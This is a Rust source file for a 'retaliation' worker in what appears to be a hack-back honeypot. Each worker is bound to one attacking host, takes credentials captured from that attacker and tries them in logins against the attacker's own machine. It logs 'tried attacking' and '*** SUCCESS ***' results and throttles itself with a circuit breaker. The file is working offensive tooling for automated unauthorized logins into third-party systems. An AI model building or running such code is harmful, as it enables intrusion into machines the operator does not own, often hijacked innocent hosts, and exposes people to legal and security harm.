//! Per-host retaliation worker.
//!
//! A [`HostWorker`] is bound to one attacking host for its whole life.  It
//! drains its private inbox one credential at a time, so attempts against a
//! host happen in the order the credentials were accepted and never overlap.
//!
//! Lifecycle:
//!
//! ```text
//!   spawn ──▶ Running ──(idle timer fires)──▶ Terminated ──▶ Retire{host, id}
//!                │
//!                └──(shutdown token)──▶ Terminated (no retire notice)
//! ```
//!
//! The idle timer is re-armed at the top of every loop iteration, so the time
//! spent inside an attempt never counts as idle.  On idle expiry the inbox is
//! closed before the retire notice is sent; anything still queued is dropped
//! with it.

use {
    crate::{
        breaker::CircuitBreaker,
        config::RetaliationConfig,
        credential::Credential,
        dispatcher::ControlMessage,
        metrics::RetaliationMetrics,
        transport::{join_host_port, LoginOutcome, Transport},
    },
    log::{debug, info, warn},
    std::{fmt, sync::Arc},
    tokio::{sync::mpsc, time::sleep},
    tokio_util::sync::CancellationToken,
};

/// Generation token distinguishing successive workers for the same host.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct WorkerId(pub u64);

impl fmt::Display for WorkerId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "#{}", self.0)
    }
}

/// Why a worker's loop ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum WorkerExit {
    /// No credential arrived for a full idle period; a retire notice was sent.
    IdleTimeout,
    /// Process-wide shutdown.
    Shutdown,
    /// Every sender of the inbox is gone, i.e. the dispatch cache stopped.
    DispatcherGone,
}

/// Outcome of handling one credential.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttemptOutcome {
    /// Circuit breaker open; no connection was made.
    Skipped,
    /// The transport connection could not be established.
    ConnectFailed,
    /// Connected, but the handshake failed or the password was rejected.
    LoginFailed,
    /// The attacker's own credential worked on the attacker's host.
    Succeeded,
}

/// Everything a worker shares with the dispatch cache that spawned it.
pub struct WorkerContext<T: Transport> {
    pub control_tx: mpsc::Sender<ControlMessage>,
    pub transport: Arc<T>,
    pub config: Arc<RetaliationConfig>,
    pub metrics: Arc<RetaliationMetrics>,
    pub cancel: CancellationToken,
}

impl<T: Transport> Clone for WorkerContext<T> {
    fn clone(&self) -> Self {
        Self {
            control_tx: self.control_tx.clone(),
            transport: Arc::clone(&self.transport),
            config: Arc::clone(&self.config),
            metrics: Arc::clone(&self.metrics),
            cancel: self.cancel.clone(),
        }
    }
}

pub struct HostWorker<T: Transport> {
    id: WorkerId,
    target_host: String,
    inbox: mpsc::Receiver<Credential>,
    breaker: CircuitBreaker,
    ctx: WorkerContext<T>,
}

impl<T: Transport> HostWorker<T> {
    pub fn new(
        id: WorkerId,
        target_host: String,
        inbox: mpsc::Receiver<Credential>,
        ctx: WorkerContext<T>,
    ) -> Self {
        Self {
            id,
            target_host,
            inbox,
            breaker: CircuitBreaker::new(ctx.config.failure_threshold),
            ctx,
        }
    }

    pub fn id(&self) -> WorkerId {
        self.id
    }

    pub fn target_host(&self) -> &str {
        &self.target_host
    }

    pub fn consecutive_network_failures(&self) -> u32 {
        self.breaker.consecutive_failures()
    }

    /// Drain the inbox until idle expiry or shutdown.
    pub async fn run(mut self) -> WorkerExit {
        debug!("worker {} for {} running", self.id, self.target_host);
        let exit = loop {
            let idle = sleep(self.ctx.config.idle_timeout);
            tokio::select! {
                biased;
                _ = self.ctx.cancel.cancelled() => break WorkerExit::Shutdown,
                credential = self.inbox.recv() => match credential {
                    Some(credential) => {
                        // Shutdown abandons the attempt mid-flight.
                        let cancel = self.ctx.cancel.clone();
                        tokio::select! {
                            biased;
                            _ = cancel.cancelled() => break WorkerExit::Shutdown,
                            _ = self.attempt(credential) => {}
                        }
                    }
                    None => break WorkerExit::DispatcherGone,
                },
                _ = idle => break WorkerExit::IdleTimeout,
            }
        };

        match exit {
            WorkerExit::IdleTimeout => self.retire().await,
            WorkerExit::Shutdown | WorkerExit::DispatcherGone => {
                debug!("worker {} for {} stopped: {:?}", self.id, self.target_host, exit);
            }
        }
        exit
    }

    /// Try `credential` against the target host once.
    pub async fn attempt(&mut self, credential: Credential) -> AttemptOutcome {
        let metrics = &self.ctx.metrics;
        if self.breaker.is_open() {
            if self.breaker.note_skip() {
                warn!(
                    "NOT attacking {}: too many network failures ({} in a row)",
                    self.target_host,
                    self.breaker.consecutive_failures()
                );
                metrics.breaker_trips.inc();
            }
            metrics.attempts_skipped.inc();
            return AttemptOutcome::Skipped;
        }

        let port = self.ctx.config.target_port;
        let connection = match self.ctx.transport.connect(&self.target_host, port).await {
            Ok(connection) => connection,
            Err(e) => {
                self.breaker.record_failure();
                metrics.connect_failures.inc();
                info!("Fail: {}", e);
                return AttemptOutcome::ConnectFailed;
            }
        };
        self.breaker.record_success();

        let target = join_host_port(&self.target_host, port);
        let banner = self.ctx.config.banner.as_str();
        match self
            .ctx
            .transport
            .login(connection, &target, &credential, banner)
            .await
        {
            Ok(LoginOutcome::Accepted) => {
                metrics.login_successes.inc();
                warn!(
                    "*** SUCCESS ***: {} worked on {}",
                    credential, self.target_host
                );
                AttemptOutcome::Succeeded
            }
            Ok(LoginOutcome::Rejected) => {
                metrics.login_failures.inc();
                info!(
                    "Fail: tried attacking {} with {}",
                    self.target_host, credential
                );
                AttemptOutcome::LoginFailed
            }
            Err(e) => {
                metrics.login_failures.inc();
                info!(
                    "Fail: tried attacking {} with {} ({})",
                    self.target_host, credential, e
                );
                AttemptOutcome::LoginFailed
            }
        }
    }

    /// Stop consuming, then tell the cache to forget this worker.
    async fn retire(self) {
        let Self {
            id,
            target_host,
            mut inbox,
            ctx,
            ..
        } = self;

        // After close() the cache sees a closed inbox instead of queueing into
        // a worker that will never read it.
        inbox.close();
        drop(inbox);

        info!(
            "worker {} for {} idle for {:?}, retiring",
            id, target_host, ctx.config.idle_timeout
        );
        let notice = ControlMessage::Retire {
            host: target_host,
            worker_id: id,
        };
        if ctx.control_tx.send(notice).await.is_err() {
            debug!("dispatch cache gone before worker {} retired", id);
        }
    }
}
